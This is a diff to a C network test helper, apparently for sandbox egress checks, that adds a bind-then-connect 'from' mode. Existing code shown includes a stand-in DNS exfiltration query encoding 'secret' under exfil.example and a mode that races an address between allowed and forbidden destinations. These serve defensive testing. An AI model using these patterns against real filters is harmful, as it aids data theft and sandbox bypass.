@@ -16,6 +16,8 @@
 //   mmsg     sends one sendmmsg with a datagram to each DEST (1 to 4 of
 //            them, IPv4) from one unconnected socket and waits for as many
 //            echoes
+//   from     (netconnect from BIND DEST) binds a stream socket to BIND,
+//            then connects it to DEST (0.0.0.0:Q reaches BIND's address)
 //   flip     connects 2000 times through one sockaddr buffer while a second
 //            thread flips its address between DEST and FORBIDDEN (the same
 //            port: only the 4-byte address changes, with one store, so the
@@ -67,6 +69,18 @@ static socklen_t parse(const char *s, union dest *d) {
 	d->in.sin_port = htons(atoi(colon + 1));
 	must(inet_pton(AF_INET, host, &d->in.sin_addr) == 1, "destination address");
 	return sizeof d->in;
+}
+
+// streamFrom connects to dest from a socket bound to bind.
+static void streamFrom(const char *bind_, const char *dest) {
+	union dest b, d;
+	socklen_t blen = parse(bind_, &b), len = parse(dest, &d);
+	int fd = socket(d.sa.sa_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	must(fd >= 0, "socket");
+	must(bind(fd, &b.sa, blen) == 0, "bind");
+	if (connect(fd, &d.sa, len) != 0)
+		perror("connect");
+	close(fd);
 }
 
 static void stream(const char *dest) {
@@ -197,6 +211,8 @@ int main(int argc, char **argv) {
 		datagram(dest, q, dnsquery(q, "c2VjcmV0.exfil.example"));
 	} else if (!strcmp(mode, "mmsg")) {
 		mmsg(argv + 2, argc - 2);
+	} else if (!strcmp(mode, "from") && argc == 4) {
+		streamFrom(dest, argv[3]);
 	} else if (!strcmp(mode, "flip") && argc == 4) {
 		flip(dest, argv[3]);
 	} else {
